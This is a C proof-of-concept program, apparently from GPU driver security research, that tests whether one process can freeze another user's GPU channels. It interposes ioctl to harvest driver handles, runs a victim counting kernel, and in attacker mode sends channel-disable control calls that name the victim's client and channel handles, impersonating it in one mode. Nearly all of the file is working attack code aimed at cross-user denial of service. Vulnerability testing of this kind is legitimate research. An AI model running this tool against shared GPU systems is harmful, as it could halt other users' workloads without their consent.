// Can a process freeze another user's channels by naming their handles in its own control call?
//
//   foreign_freeze victim     runs a kernel that counts in host memory; prints its handles, then its counter every 50 ms
//   foreign_freeze attacker CLIENT SUBDEVICE CHANNEL,CHANNEL,...
//                             makes a context and a counting kernel of its own, then obeys lines on stdin:
//       own 1|0               freeze (1) or thaw (0) its own channels: shows that the call works
//       foreign 1|0           its own file, client and subdevice; the lists name the victim's client and channels
//       asvictim 1|0          its own file; client, subdevice and lists are the victim's
//       count                 nothing; prints its own counter
//       quit
//   Each line is answered with the control's status and the attacker's own counter.
//
// The handles are learned by defining `ioctl` in this executable (link with -rdynamic): the driver's library calls it.
#define _GNU_SOURCE
#include <cuda.h>
#include <errno.h>
#include <pthread.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

enum { RM_CONTROL = 0x2a, RM_ALLOC = 0x2b, RM_XFER = 211 };
enum { CLASS_SUBDEVICE = 0x2080, CLASS_GROUP = 0xa06c, LOW_BYTE_CHANNEL = 0x6f };
enum { DISABLE_CHANNELS = 0x2080110b, DISABLE_CHANNELS_SIZE = 536, CHANNELS_MAX = 64, OBJECTS_MAX = 512 };

struct alloc_short { uint32_t root, parent, made, class_; uint64_t parameters; uint32_t size, status; };
struct alloc_long { uint32_t root, parent, made, class_; uint64_t parameters, rights; uint32_t size, flags, status; };
struct control { uint32_t client, object, command, flags; uint64_t parameters; uint32_t size, status; };
struct xfer { uint32_t command, size; uint64_t pointer; };

struct object { int fd; uint32_t client, handle, parent, class_; };
static struct object objects[OBJECTS_MAX];
static int object_count;
static pthread_mutex_t objects_lock = PTHREAD_MUTEX_INITIALIZER;

static void record(int fd, uint32_t client, uint32_t handle, uint32_t parent, uint32_t class_)
{
    int channel = (class_ & 0xff) == LOW_BYTE_CHANNEL && class_ >= 0xa000;
    if (!channel && class_ != CLASS_SUBDEVICE && class_ != CLASS_GROUP)
        return;
    pthread_mutex_lock(&objects_lock);
    if (object_count < OBJECTS_MAX)
        objects[object_count++] = (struct object){fd, client, handle, parent, class_};
    pthread_mutex_unlock(&objects_lock);
}

int ioctl(int fd, unsigned long request, ...)
{
    va_list list;
    va_start(list, request);
    void *argument = va_arg(list, void *);
    va_end(list);
    int result = (int)syscall(SYS_ioctl, fd, request, argument);
    int error = errno;
    unsigned type = (request >> 8) & 0xff, number = request & 0xff, size = (request >> 16) & 0x3fff;
    if (result == 0 && type == 'F' && argument) {
        if (number == RM_XFER) {
            struct xfer *wrapped = argument;
            number = wrapped->command;
            size = wrapped->size;
            argument = (void *)(uintptr_t)wrapped->pointer;
        }
        if (number == RM_ALLOC && size == sizeof(struct alloc_long)) {
            struct alloc_long *a = argument;
            if (a->status == 0)
                record(fd, a->root, a->made, a->parent, a->class_);
        } else if (number == RM_ALLOC && size == sizeof(struct alloc_short)) {
            struct alloc_short *a = argument;
            if (a->status == 0)
                record(fd, a->root, a->made, a->parent, a->class_);
        }
    }
    errno = error;
    return result;
}

struct handles { int fd; uint32_t client, subdevice, count, channels[CHANNELS_MAX]; };

// The channels of all groups of the client that made the first group, and that client's subdevice.
static struct handles own_handles(void)
{
    struct handles found = {-1, 0, 0, 0, {0}};
    for (int i = 0; i < object_count && found.fd < 0; i++)
        if (objects[i].class_ == CLASS_GROUP) {
            found.fd = objects[i].fd;
            found.client = objects[i].client;
        }
    for (int i = 0; i < object_count; i++) {
        if (objects[i].client != found.client)
            continue;
        if (objects[i].class_ == CLASS_SUBDEVICE)
            found.subdevice = objects[i].handle;
        if ((objects[i].class_ & 0xff) != LOW_BYTE_CHANNEL || found.count == CHANNELS_MAX)
            continue;
        for (int k = 0; k < object_count; k++)
            if (objects[k].class_ == CLASS_GROUP && objects[k].client == found.client && objects[k].handle == objects[i].parent) {
                found.channels[found.count++] = objects[i].handle;
                break;
            }
    }
    return found;
}

// One FIFO_DISABLE_CHANNELS call; returns the driver's status, or -errno.
static long disable_channels(int fd, uint32_t client, uint32_t subdevice, int disable, const struct handles *named)
{
    uint8_t parameters[DISABLE_CHANNELS_SIZE];
    memset(parameters, 0, sizeof parameters);
    parameters[0] = (uint8_t)disable;
    memcpy(parameters + 4, &named->count, 4);
    for (uint32_t i = 0; i < named->count; i++) {
        memcpy(parameters + 24 + 4 * i, &named->client, 4);
        memcpy(parameters + 280 + 4 * i, &named->channels[i], 4);
    }
    struct control call = {client, subdevice, DISABLE_CHANNELS, 0, (uint64_t)(uintptr_t)parameters, sizeof parameters, 0xffffffff};
    unsigned long request = (3ul << 30) | ((unsigned long)sizeof call << 16) | ('F' << 8) | RM_CONTROL;
    if (syscall(SYS_ioctl, fd, request, &call) != 0)
        return -errno;
    return call.status;
}

static const char count_ptx[] =
    ".version 7.0\n"
    ".target sm_70\n"
    ".address_size 64\n"
    ".visible .entry count(.param .u64 words)\n"
    "{\n"
    "    .reg .pred %p;\n"
    "    .reg .b64 %words, %value, %stop;\n"
    "    ld.param.u64 %words, [words];\n"
    "    cvta.to.global.u64 %words, %words;\n"
    "    mov.u64 %value, 0;\n"
    "again:\n"
    "    add.u64 %value, %value, 1;\n"
    "    st.relaxed.sys.global.u64 [%words], %value;\n"
    "    ld.relaxed.sys.global.u64 %stop, [%words+64];\n"
    "    setp.eq.u64 %p, %stop, 0;\n"
    "    @%p bra again;\n"
    "    ret;\n"
    "}\n";

static void check(CUresult result, const char *call)
{
    if (result != CUDA_SUCCESS) {
        const char *name = 0;
        cuGetErrorName(result, &name);
        fprintf(stderr, "%s: %s\n", call, name ? name : "unknown error");
        _exit(1);
    }
}
#define CHECK(call) check((call), #call)

// Makes a context and launches the counting kernel. The counter is word 0, the stop flag word 8.
static volatile uint64_t *start_counting(void)
{
    CUdevice device;
    CUcontext context;
    CUmodule module;
    CUfunction function;
    CUdeviceptr words;
    CUstream stream;
    void *host = 0;
    CHECK(cuInit(0));
    CHECK(cuDeviceGet(&device, 0));
    CHECK(cuDevicePrimaryCtxRetain(&context, device));
    CHECK(cuCtxSetCurrent(context));
    CHECK(cuMemHostAlloc(&host, 4096, CU_MEMHOSTALLOC_DEVICEMAP));
    memset(host, 0, 4096);
    CHECK(cuMemHostGetDevicePointer(&words, host, 0));
    CHECK(cuModuleLoadData(&module, count_ptx));
    CHECK(cuModuleGetFunction(&function, module, "count"));
    CHECK(cuStreamCreate(&stream, CU_STREAM_NON_BLOCKING));
    void *parameters[] = {&words};
    CHECK(cuLaunchKernel(function, 1, 1, 1, 1, 1, 1, 0, stream, parameters, 0));
    volatile uint64_t *counter = host;
    for (int i = 0; i < 5000 && *counter == 0; i++)
        usleep(1000);
    if (*counter == 0) {
        fprintf(stderr, "the counting kernel did not start\n");
        _exit(1);
    }
    return counter;
}

static void print_handles(const struct handles *h)
{
    printf("handles %x %x ", h->client, h->subdevice);
    for (uint32_t i = 0; i < h->count; i++)
        printf("%s%x", i ? "," : "", h->channels[i]);
    printf(" fd %d uid %d pid %d\n", h->fd, (int)getuid(), (int)getpid());
}

static int victim(void)
{
    volatile uint64_t *counter = start_counting();
    struct handles own = own_handles();
    print_handles(&own);
    for (int i = 0; i < 20 * 60; i++) {
        printf("count %llu\n", (unsigned long long)*counter);
        usleep(50000);
    }
    _exit(0);
}

static int attacker(char **arguments)
{
    struct handles other = {-1, (uint32_t)strtoul(arguments[0], 0, 16), (uint32_t)strtoul(arguments[1], 0, 16), 0, {0}};
    for (char *part = strtok(arguments[2], ","); part && other.count < CHANNELS_MAX; part = strtok(0, ","))
        other.channels[other.count++] = (uint32_t)strtoul(part, 0, 16);
    volatile uint64_t *counter = start_counting();
    struct handles own = own_handles();
    print_handles(&own);
    char line[64], verb[32];
    while (fgets(line, sizeof line, stdin)) {
        int disable = 0;
        long status = 0;
        if (sscanf(line, "%31s %d", verb, &disable) < 1)
            continue;
        if (!strcmp(verb, "quit"))
            break;
        if (!strcmp(verb, "own"))
            status = disable_channels(own.fd, own.client, own.subdevice, disable, &own);
        else if (!strcmp(verb, "foreign"))
            status = disable_channels(own.fd, own.client, own.subdevice, disable, &other);
        else if (!strcmp(verb, "asvictim"))
            status = disable_channels(own.fd, other.client, other.subdevice, disable, &other);
        printf("%s %d status %s0x%lx count %llu\n", verb, disable, status < 0 ? "-" : "", status < 0 ? -status : status, (unsigned long long)*counter);
    }
    _exit(0);
}

int main(int count, char **arguments)
{
    setvbuf(stdout, 0, _IOLBF, 0);
    if (count == 2 && !strcmp(arguments[1], "victim"))
        return victim();
    if (count == 5 && !strcmp(arguments[1], "attacker"))
        return attacker(arguments + 2);
    fprintf(stderr, "usage: foreign_freeze victim | attacker CLIENT SUBDEVICE CHANNELS\n");
    return 2;
}
